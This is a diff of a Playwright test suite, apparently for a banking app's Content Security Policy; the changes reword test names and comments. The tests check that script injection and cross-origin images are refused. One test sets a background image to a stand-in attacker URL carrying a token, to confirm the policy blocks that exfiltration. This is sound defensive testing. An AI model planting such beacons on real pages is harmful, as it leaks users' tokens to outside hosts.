@@ -15,7 +15,7 @@ async function openConsole(page: Page, { origin }: Bank): Promise<void> {
   await expect(page.getByRole('region', { name: 'Outbox' })).toBeVisible()
 }
 
-/** What becomes of each way in which text turns into code: `admitted`, or the name of the error. */
+/** The result of each way to turn text into code: `admitted`, or the name of the error. */
 const injections = (frame: Page | Frame): Promise<Record<string, string>> =>
   frame.evaluate(() => {
     const attempts: Record<string, () => unknown> = {
@@ -52,7 +52,7 @@ const refused = {
   'a policy of its own': 'TypeError',
 }
 
-test('a script that turns text into markup or code is refused on every kind of page', async ({
+test('The policy of every kind of page refuses a script that turns text into markup or code', async ({
   page,
   bankOf,
 }) => {
@@ -74,7 +74,10 @@ test('a script that turns text into markup or code is refused on every kind of p
   expect(await injections(page)).toEqual(refused)
 })
 
-test('a planted image of another origin is refused, and carries nothing away', async ({ page, bankOf }) => {
+test('The policy refuses a planted image of another origin, which exfiltrates nothing', async ({
+  page,
+  bankOf,
+}) => {
   const person = demoDepositor(bankOf('harbor'), 'active')
   const { origin } = person.bank
   const refusals = await collectViolations(page.context())
@@ -105,7 +108,7 @@ test('a planted image of another origin is refused, and carries nothing away', a
   await expect
     .poll(() => refusals.filter((refusal) => refusal.includes(': img-src ')).length)
     .toBe(others.length)
-  // In a style too.
+  // The same as a background image.
   await page.evaluate(() => {
     document.body.style.backgroundImage = 'url("https://evil.example/?token=taken")'
   })
@@ -115,7 +118,7 @@ test('a planted image of another origin is refused, and carries nothing away', a
   expect(requested).toEqual([origin])
 })
 
-test('nothing is refused that a depositor’s pages do: log-in, linking and answers as HTML', async ({
+test('The policy refuses nothing that a depositor’s pages do: log-in, linking and answers as HTML', async ({
   page,
   ownBankOf,
 }) => {
@@ -129,12 +132,12 @@ test('nothing is refused that a depositor’s pages do: log-in, linking and answ
   await page.goto(`${bank.origin}/faq`)
   await expect(page.getByText(/^A deposit made before 4:00 PM Eastern/)).toBeAttached()
   expect(violations).toEqual([])
-  // What is refused is collected.
+  // Violations are collected.
   await injections(page)
   await expect.poll(() => violations.length).toBeGreaterThan(0)
 })
 
-test('nothing is refused that the console does, an email with its logo included', async ({
+test('The policy refuses nothing that the console does, including an email with its logo', async ({
   page,
   bankOf,
 }) => {
